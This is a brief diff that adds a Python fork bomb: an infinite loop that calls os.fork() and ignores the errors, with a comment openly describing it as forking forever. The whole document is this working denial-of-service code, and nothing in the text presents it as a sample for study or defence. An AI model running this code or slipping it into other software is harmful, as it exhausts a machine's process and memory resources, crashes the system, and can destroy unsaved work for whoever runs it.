@@ -1,0 +1,8 @@
+# Forks for ever and never gives up.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
